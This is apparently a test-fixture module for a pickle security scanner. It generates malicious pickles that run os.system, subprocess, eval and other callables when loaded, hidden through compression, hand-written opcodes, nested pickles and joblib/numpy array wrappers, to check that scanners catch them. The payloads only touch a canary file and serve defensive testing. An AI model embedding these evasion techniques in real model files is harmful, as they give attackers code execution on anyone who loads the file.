"""Pickles that run something when they are loaded, each in another way: what scanners of block-lists let through too.

A payload makes the file that `canary` names. Nothing here loads any of them.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import zlib
from pathlib import Path
from typing import Any

import joblib
import lz4.frame
import numpy as np


def _value(value: Any, protocol: int = 2) -> bytes:
    """The opcodes that put a plain value on the stack."""
    dumped = pickle.dumps(value, protocol)
    return dumped[2 if protocol >= 2 else 0 : -1]


def _name(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _call(module: str, name: str, *args: Any) -> bytes:
    return _name(module, name) + _value(args) + b"R"


def _whole(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def _shell(canary: Path) -> bytes:
    return _call("os", "system", f"touch {canary}")


def _joblib(value: Any) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(value, buffer)
    return buffer.getvalue()


class _Payload:
    """Pickled as a call of os.system."""

    def __init__(self, canary: Path) -> None:
        self._command = f"touch {canary}"

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (self._command,)


def _npy(value: Any) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([value], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def shapes(canary: Path) -> dict[str, bytes]:
    """The same payload in every wrapping: all but `npy` are read by joblib too."""
    payload = _Payload(canary)
    plain = pickle.dumps(payload)
    made = {f"protocol_{protocol}": pickle.dumps([payload], protocol) for protocol in range(6)}
    return made | {
        "zlib": zlib.compress(plain),
        "gzip": gzip.compress(plain),
        "bz2": bz2.compress(plain),
        "xz": lzma.compress(plain),
        "lzma": lzma.compress(plain, format=lzma.FORMAT_ALONE),
        "lz4": lz4.frame.compress(plain),
        "nested_in_a_model": _joblib({"coef_": np.arange(4.0), "classes_": [payload]}),
        "pickle_in_pickle": _whole(_call("pickle", "loads", plain)),
        "pickle_in_pickle_in_c": _whole(_call("_pickle", "loads", plain)),
        "object_array": _joblib(np.array([payload], dtype=object)),
        # What scanners that do not pass over the bytes of an array never reach.
        "behind_an_array": _joblib([np.frombuffer(b".0c" * 80, np.uint8), payload]),
        "behind_a_padded_array": _joblib([np.arange(3, dtype=np.uint8), np.arange(1000.0), payload]),
        "memo": _whole(_name("os", "system") + b"q\x050h\x05" + _value((f"touch {canary}",)) + b"R"),
        "memo_of_a_name": _whole(
            b"X\x02\x00\x00\x00osq\x01X\x06\x00\x00\x00systemq\x020"
            + b"0h\x01h\x02\x93"
            + _value((f"touch {canary}",))
            + b"R",
            4,
        ),
        "inst": b"(" + _value(f"touch {canary}", 0) + b"ios\nsystem\n.",
        "obj": b"(" + _name("os", "system") + _value(f"touch {canary}", 0) + b"o.",
        "newobj": _whole(_name("subprocess", "Popen") + _value(()) + b"\x81"),
        "python_2_name": _call("__builtin__", "eval", f"open({str(canary)!r}, 'w')") + b".",
        "name_with_dots": _whole(b"X\x0c\x00\x00\x00sklearn.baseX\x0c\x00\x00\x00warnings.sys\x93", 4),
        "method_with_dots": _whole(
            b"X\x07\x00\x00\x00sklearnX\x09\x00\x00\x00os.system\x93" + _value((f"touch {canary}",)) + b"R", 4
        ),
        "computed_name": _whole(
            b"X\x02\x00\x00\x00os" + _call("builtins", "str", "system") + b"\x93" + _value((f"touch {canary}",)) + b"R",
            4,
        ),
        "npy": _npy(payload),
    }


def calls(canary: Path) -> dict[str, bytes]:
    """Calls of what runs code, or opens files, in the libraries that a model's environment has."""
    code = f"open({str(canary)!r}, 'w').close()"
    shell, touch = f"touch {canary}", ["touch", str(canary)]
    wanted: dict[str, tuple[Any, ...]] = {
        "os:system": (shell,),
        "posix:system": (shell,),
        "os:popen": (shell,),
        "os:execv": ("/bin/touch", touch),
        "subprocess:Popen": (touch,),
        "subprocess:check_output": (touch,),
        "builtins:eval": (code,),
        "builtins:exec": (code,),
        "builtins:compile": (code, "x", "exec"),
        "builtins:__import__": ("antigravity",),
        "builtins:getattr": ("", "format"),
        "builtins:open": (str(canary), "w"),
        "builtins:map": (),
        "builtins:apply": (),
        "io:open": (str(canary), "w"),
        "_io:FileIO": (str(canary), "w"),
        "distutils.spawn:spawn": (touch,),
        "setuptools._distutils.spawn:spawn": (touch,),
        "_posixsubprocess:fork_exec": (touch,),
        "posix:posix_spawn": ("/bin/touch", touch, {}),
        "pty:spawn": (touch,),
        "importlib:import_module": ("os",),
        "importlib._bootstrap:_gcd_import": ("os",),
        "operator:attrgetter": ("system",),
        "operator:methodcaller": ("system", shell),
        "operator:itemgetter": (0,),
        "_operator:attrgetter": ("system",),
        "functools:partial": (),
        "functools:reduce": (),
        "pandas:read_pickle": (str(canary),),
        "pandas.io.pickle:read_pickle": (str(canary),),
        "joblib:load": (str(canary),),
        "joblib.numpy_pickle:load": (str(canary),),
        "torch:load": (str(canary),),
        "torch.serialization:load": (str(canary),),
        "numpy:load": (str(canary),),
        "numpy:memmap": (str(canary), "uint8", "w+"),
        "numpy:fromfile": (str(canary),),
        "numpy:DataSource": (str(canary.parent),),
        "numpy.lib._datasource:DataSource": (str(canary.parent),),
        "numpy.lib.npyio:DataSource": (str(canary.parent),),
        "numpy.f2py.crackfortran:myeval": (code,),
        "numpy.f2py:compile": (code,),
        "numpy.testing._private.utils:runstring": (code, {}),
        "numpy.testing:rundocs": (str(canary),),
        "numpy.core._internal:_ufunc_reconstruct": ("os", "system"),
        "numpy.core:_ufunc_reconstruct": ("os", "system"),
        "numpy._core:_ufunc_reconstruct": ("os", "system"),
        "pip:main": (["--version"],),
        "pip._internal:main": (["--version"],),
        "timeit:timeit": (code,),
        "timeit:main": ([code],),
        "pdb:run": (code,),
        "bdb:Bdb": (),
        "cProfile:run": (code,),
        "profile:run": (code,),
        "trace:Trace": (),
        "code:InteractiveInterpreter": (),
        "codeop:compile_command": (code,),
        "asyncio:run": (),
        "asyncio.unix_events:_UnixSubprocessTransport._start": (),
        "ctypes:CDLL": ("libc.so.6",),
        "_ctypes:dlopen": ("libc.so.6",),
        "pydoc:locate": ("os.system",),
        "pydoc:pipepager": ("", shell),
        "types:FunctionType": (),
        "types:CodeType": (),
        "copyreg:add_extension": ("os", "system", 1),
        "copyreg:__reduce_ex__": (),
        "runpy:run_path": (str(canary),),
        "webbrowser:open": ("x",),
        "shutil:rmtree": (str(canary),),
        "tempfile:NamedTemporaryFile": (),
        "sys:settrace": (),
        "threading:Thread": (),
        "multiprocessing:Process": (),
        "socket:socket": (),
        "urllib.request:urlopen": ("file:///",),
        "logging.config:dictConfig": ({},),
        "joblib.memory:Memory": (str(canary),),
        "joblib.parallel:Parallel": (),
        "joblib.externals.loky.backend.utils:kill_process_tree": (),
        "sklearn.datasets:load_files": (str(canary),),
        "sklearn.utils._testing:TempMemmap": (),
        "sklearn.utils.parallel:Parallel": (),
        "scipy._lib._ccallback:LowLevelCallable": (),
        "scipy.io:loadmat": (str(canary),),
        "cloudpickle.cloudpickle:_make_function": (),
        "cloudpickle.cloudpickle:subimport": ("os",),
        "dill._dill:_create_function": (),
        "dill._dill:_import_module": ("os",),
        "statsmodels.iolib.smpickle:load_pickle": (str(canary),),
        "statsmodels.api:load": (str(canary),),
        "lightgbm.basic:Dataset": (str(canary),),
        "xgboost.core:DMatrix": (str(canary),),
        "joblib.numpy_pickle_compat:NDArrayWrapper": (str(canary), "x"),
        "joblib.numpy_pickle_compat:ZNDArrayWrapper": (str(canary), "x"),
        "joblib.numpy_pickle:NDArrayWrapper": (str(canary), "x"),
        "sklearn.externals.joblib.numpy_pickle:NDArrayWrapper": (str(canary), "x"),
        "sklearn.externals.joblib.numpy_pickle:NumpyArrayWrapper": (),
        "doctest:debug_script": (code,),
        "lib2to3.pgen2.pgen:ParserGenerator": (str(canary),),
        "idlelib.run:Executive": (),
        "site:execsitecustomize": (),
        "ensurepip:_run_pip": ([],),
        "venv:create": (str(canary),),
        "zipimport:zipimporter": (str(canary),),
        "marshal:loads": (b"",),
        "shelve:open": (str(canary),),
        "dbm:open": (str(canary), "c"),
        "sqlite3:connect": (str(canary),),
        "pickle:Unpickler": (),
        "torch.utils._config_module:install_config_module": (),
        "torch.jit:load": (str(canary),),
        "torch.hub:load": (str(canary),),
    }
    return {name: _whole(_call(*name.split(":"), *args)) for name, args in wanted.items()}


def _sklearn(module: str, name: str, state: bytes) -> bytes:
    """An estimator whose state is made by these opcodes."""
    return _whole(_name(f"sklearn.{module}", name) + b")\x81" + state + b"b")


def _state(key: str, value: bytes) -> bytes:
    return b"}" + _value(key) + value + b"s"


def structures(canary: Path) -> dict[str, bytes]:
    """No call that is bad by its name: what is built, patched, kept for later, or read by another program."""
    code = f"\nopen({str(canary)!r}, 'w').close()\ndef _parse_args(self, loc=0, scale=1):\n    return (), loc, scale\n"
    uniform = _name("scipy.stats._continuous_distns", "uniform_gen") + b")\x81"
    estimator = _name("sklearn.preprocessing._function_transformer", "FunctionTransformer")
    return {
        "extension_code": _whole(b"\x82\x01"),
        "persistent_id": b"Pos.system\n.",
        "binary_persistent_id": _whole(_value("os.system") + b"Q"),
        "patched_class": _whole(_name("sklearn.base", "BaseEstimator") + _state("__reduce__", b"N") + b"b"),
        "patched_module": _whole(_name("sklearn", "base") + _state("clone", b"N") + b"b"),
        "patched_slots": _whole(
            _name("sklearn.base", "BaseEstimator") + b"N" + _state("predict", _name("os", "system")) + b"\x86b"
        ),
        "called_later": _sklearn(
            "preprocessing._function_transformer", "FunctionTransformer", _state("func", _name("pandas", "read_pickle"))
        ),
        "called_later_by_numpy": _sklearn(
            "preprocessing._function_transformer", "FunctionTransformer", _state("func", _name("numpy", "memmap"))
        ),
        "class_as_a_function": _sklearn(
            "preprocessing._function_transformer", "FunctionTransformer", _state("func", _name("joblib", "Memory"))
        ),
        "value_in_a_tuple": _sklearn(
            "base", "BaseEstimator", _state("a", _value((1, (2,)))[:-1] + b"0" + _name("os", "system") + b"\x85\x85")
        ),
        "overwritten_later": _whole(
            estimator
            + b")\x81"
            + b"}q\x07"
            + _value("func")
            + _name("os", "system")
            + b"s"
            + b"b0h\x07"
            + _value("func")
            + b"Ns."
        ),
        "default_factory": _whole(_name("collections", "defaultdict") + _name("os", "getcwd") + b"\x85R"),
        "template_of_scipy": _whole(uniform + b"}" + _value("_parse_arg_template") + _value(code) + b"sb"),
        "random_ctor": _whole(
            _name("numpy.random._pickle", "__randomstate_ctor")
            + _value(f"touch {canary}")
            + _name("os", "system")
            + b"\x86R"
        ),
        "codec": _whole(_call("_codecs", "encode", "x", "antigravity")),
        "formula": _whole(
            _name("statsmodels.base.data", "PandasData")
            + b")\x81"
            + _state("formula", _value("__import__('os').system('x')"))
            + b"b"
        ),
        "formula_in_a_bunch": _whole(
            b"]"
            + _name("statsmodels.regression.linear_model", "RegressionResults")
            + b")\x81a"
            + _name("sklearn.utils._bunch", "Bunch")
            + b")\x81"
            + _value("design_info")
            + _value("__import__('os')")
            + b"sa"
        ),
        "pointer_of_a_booster": _whole(
            _name("xgboost.core", "Booster") + b")\x81" + _state("handle", _value(4096)) + b"b"
        ),
        "dtype_without_objects": _whole(
            _name("numpy", "dtype")
            + _value(("O8", False, True))
            + b"R"
            + _value((3, "|", None, None, None, -1, -1, 0))
            + b"b"
        ),
        "dtype_with_objects": _whole(
            _name("numpy", "dtype")
            + _value(("f8", False, True))
            + b"R"
            + _value((3, "<", None, None, None, -1, -1, 63))
            + b"b"
        ),
        "dtype_that_is_shared": _whole(_call("numpy", "dtype", "f8", False, False)),
        "dropped_import": _whole(_name("antigravity", "webbrowser") + b"0N"),
        "bound_method": _whole(_name("builtins", "getattr") + estimator + b")\x81" + _value("__init__") + b"\x86R"),
        "items_of_a_module": _whole(_name("sys", "modules") + _value("os") + b"Ns"),
        "items_of_a_class": _whole(_name("sklearn.base", "BaseEstimator") + _value("x") + b"a"),
        "call_of_an_instance": _whole(estimator + b")\x81" + b")R"),
        # An object that is made another way than usual is the same object.
        "dtype_by_newobj": _whole(
            _name("numpy", "dtype")
            + _value(("O8", False, True))
            + b"\x81"
            + _value((3, "|", None, None, None, -1, -1, 0))
            + b"b"
        ),
        "partial_by_newobj": _whole(_name("functools", "partial") + _name("numpy", "mean") + b"\x85\x81"),
        "bunch_for_a_model": _whole(
            _name("statsmodels.regression.linear_model", "RegressionResults")
            + b")\x81"
            + _state("model", _name("sklearn.utils._bunch", "Bunch") + b")\x81")
            + b"b"
        ),
    } | arrays(canary)


def _array(state: bytes, behind: bytes) -> bytes:
    return _whole(b"]" + _name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + behind + b"a")


def arrays(canary: Path) -> dict[str, bytes]:
    """Arrays of joblib's that another reader takes for longer or shorter than joblib does: the rest is its program."""
    dtype = (
        _name("numpy", "dtype")
        + _value(("u1", False, True))
        + b"R"
        + _value((3, "|", None, None, None, -1, -1, 0))
        + b"b"
    )
    objects = (
        _name("numpy", "dtype")
        + _value(("O8", False, True))
        + b"R"
        + _value((3, "|", None, None, None, -1, -1, 63))
        + b"b"
    )
    payload = _shell(canary) + b"."

    def state(**changed: bytes) -> bytes:
        items = {
            "subclass": _name("numpy", "ndarray"),
            "shape": _value((4,)),
            "order": _value("C"),
            "dtype": dtype,
            "allow_mmap": b"\x89",
            **changed,
        }
        return b"}" + b"".join(_value(key) + value + b"s" for key, value in items.items())

    by_another = (
        _name("sklearn.neighbors._kd_tree", "newObj") + _name("joblib.numpy_pickle", "NumpyArrayWrapper") + b"\x85R"
    )
    huge = struct.pack("<I", 1 << 31)
    return {
        "shape_of_a_call": _array(state(shape=_call("builtins", "tuple", [64])), payload),
        "shape_of_a_list": _array(state(shape=_value([64])), payload),
        "negative_shape": _array(state(shape=_value((-1,))), payload),
        "shape_of_booleans": _array(state(shape=_value((True,))), payload),
        "order_of_none": _array(state(order=_value("K")), payload),
        "mapped_objects": _array(state(dtype=objects, allow_mmap=b"\x88"), payload),
        "built_twice": _whole(
            _name("joblib.numpy_pickle", "NumpyArrayWrapper")
            + b")\x81q\x01"
            + state()
            + b"babcd0h\x01"
            + state()
            + b"b"
            + payload
        ),
        "class_of_the_array": _array(state(subclass=_name("os", "system")), payload),
        "key_that_is_equal": _array(
            state() + _call("numpy.core.multiarray", "scalar", 1) + _value((64,)) + b"s", payload
        ),
        "wrapper_by_a_call": _whole(_name("joblib.numpy_pickle", "NumpyArrayWrapper") + _value((1,)) + b"R"),
        "wrapper_by_another": _whole(b"]" + by_another + state(shape=_value((-4,))) + b"b" + payload),
        "overflowing_shape": _array(state(shape=_value((1 << 32, 1 << 32))), payload),
        "array_in_an_array_of_objects": _array(state(dtype=objects), _array(state(), payload)),
        "cut_short": b"\x80\x04B" + huge + b"x",
        "alignment_by_a_call": _array(state(numpy_array_alignment_bytes=_call("builtins", "int", "16")), payload),
        "memmap_kept": _whole(
            _name("sklearn.base", "BaseEstimator")
            + b")\x81"
            + b"}"
            + _value("subclass")
            + _name("numpy", "memmap")
            + b"sb"
        ),
    }
